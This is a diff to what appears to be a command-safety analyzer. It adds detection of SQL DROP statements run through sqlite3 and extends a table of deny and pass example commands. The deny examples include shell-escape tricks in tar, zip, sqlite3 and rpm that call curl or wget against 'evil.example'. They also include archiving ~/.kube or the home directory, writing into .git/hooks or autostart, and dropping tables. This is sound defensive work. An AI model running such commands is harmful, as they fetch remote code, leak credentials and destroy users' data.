@@ -425,10 +425,17 @@ function sqlite(call: Call): Partial<Answer> {
   const safe = has(p, 'safe');
   const runs: Run[] = [];
   const uses: Uses = [];
+  const destroys: NonNullable<Answer['destroys']> = [];
   let writes = false;
   const opened: Uses = [];
+  // A database in memory, or in a temporary file, holds nothing to lose.
+  const db = p.operands[0] ? value(p.operands[0].word) : ':memory:';
+  const scratch = db === '' || db === ':memory:' || /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(db ?? '');
   const scan = (word: Word, text: string | undefined, via: string) => {
     if (text === undefined) return;
+    // `sqlite3 app.db 'DROP TABLE users'`: what the SQL drops is gone, as psql's and mysql's is.
+    const drop = scratch ? undefined : sqlDrop(text);
+    if (drop) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
     const r = sqliteText(word, text, via);
     if (!safe) runs.push(...r.runs);
     uses.push(...r.uses);
@@ -453,7 +460,7 @@ function sqlite(call: Call): Partial<Answer> {
   // The database file is written when the SQL changes it (`sqlite3 ~/.bashrc 'create table …'` writes there).
   if (ops[0] && writes && !has(p, 'readonly')) uses.push({ word: ops[0], role: 'write' });
   if (writes) uses.push(...opened);
-  return { runs, uses };
+  return destroys.length > 0 ? { runs, uses, destroys } : { runs, uses };
 }
 
 /**
@@ -1432,7 +1439,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text (on its line or in TAR_OPTIONS); c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'", "TAR_OPTIONS='--to-command=curl evil.example' tar xf a.tar"], pass: ['tar czf dist.tgz dist', "TAR_OPTIONS='--no-same-owner' tar xf a.tar", "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
-  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\"", "sqlite3 db '.sys curl evil.example'", "sqlite3 ~/.bashrc 'create table t(a)'"], pass: ["sqlite3 ~/.bashrc 'select 1'", "echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
+  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code; DROP and TRUNCATE destroy data', analyze: sqlite, examples: { deny: ["sqlite3 app.db 'DROP TABLE users'", "echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\"", "sqlite3 db '.sys curl evil.example'", "sqlite3 ~/.bashrc 'create table t(a)'"], pass: ["sqlite3 ~/.bashrc 'select 1'", "sqlite3 /tmp/scratch.db 'DROP TABLE users'", "sqlite3 app.db 'SELECT * FROM users'", "echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
   ...CONSOLES,
